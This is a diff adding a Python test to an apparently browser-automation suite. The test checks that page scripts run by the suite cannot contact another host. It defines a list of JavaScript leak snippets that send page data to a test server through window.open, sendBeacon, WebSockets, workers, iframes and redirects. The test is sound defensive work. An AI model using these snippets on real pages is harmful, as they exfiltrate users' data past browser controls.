@@ -235,6 +235,47 @@ async def test_nothing_is_written_and_nothing_told_elsewhere_by_a_suites_scripts
         assert stranger.requests == []
 
 
+_LEAKS = (
+    "window.open('{0}/?' + document.title)",
+    "(() => {{ const a = document.createElement('a'); a.href = '{0}/anchor'; a.target = '_blank';"
+    " document.body.append(a); a.click(); }})()",
+    "(() => {{ const f = document.createElement('iframe'); f.src = '{0}/frame'; document.body.append(f); }})()",
+    "new EventSource('{0}/events')",
+    "navigator.sendBeacon('{0}/beacon', document.title)",
+    "new WebSocket('{0}/socket'.replace('http', 'ws'))",
+    "new Worker(URL.createObjectURL(new Blob([\"fetch('{0}/worker', {{mode: 'no-cors'}})\"])))",
+    "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{0}/shared', {{mode: 'no-cors'}})\"])))",
+    "(() => {{ window.open('about:blank').fetch('{0}/blank', {{mode: 'no-cors'}}); }})()",
+    "(() => {{ window.location = '{0}/away'; }})()",
+)
+
+
+async def test_no_window_or_worker_of_a_suites_script_tells_another_host_and_windows_are_closed(
+    blank: BrowserSession, site: EvidenceSite
+) -> None:
+    with evidence_site() as stranger:
+        await _guarded(blank, f"{site.url}/form")
+        await blank.open_tab()
+        await open_page(blank, f"{site.url}/form")
+        scripts = [script.format(stranger.url) for script in _LEAKS]
+        evidence = await _at(
+            blank,
+            *(HtmlTarget(locator="document.title", prep_actions=(script,)) for script in scripts),
+            *(
+                HtmlTarget(url=f"{site.url}/form", locator="document.title", prep_actions=(script,))
+                for script in scripts
+            ),
+            site=site,
+        )
+        assert evidence.targets[0].value == "Form"
+        await blank.page.wait_for_timeout(500)
+        assert stranger.requests == []
+        assert len(blank.pages) == 2
+        # Afterwards pages may ask others again.
+        await blank.pages[0].evaluate(f"fetch('{stranger.url}/later', {{mode: 'no-cors'}})")
+        assert len(stranger.requests) == 1
+
+
 async def test_a_page_in_front_that_hangs_costs_its_time_limit_once(
     blank: BrowserSession, site: EvidenceSite
 ) -> None:
